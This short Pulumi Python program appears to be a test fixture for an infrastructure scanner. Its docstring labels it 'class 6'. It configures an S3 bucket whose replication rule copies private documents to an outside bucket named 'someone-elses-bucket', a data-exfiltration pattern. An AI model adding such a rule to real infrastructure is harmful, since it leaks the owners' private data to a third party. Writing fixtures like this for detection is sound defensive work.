"""The deprecated Bucket's inline replicationConfiguration copying private media out, class 6."""

import pulumi_aws as aws


def program() -> None:
    aws.s3.Bucket(
        "documents",
        bucket="corp-documents",
        versioning={"enabled": True},
        replication_configuration={
            "role": "arn:aws:iam::123456789012:role/replication",
            "rules": [{"status": "Enabled", "destination": {"bucket": "arn:aws:s3:::someone-elses-bucket"}}],
        },
    )
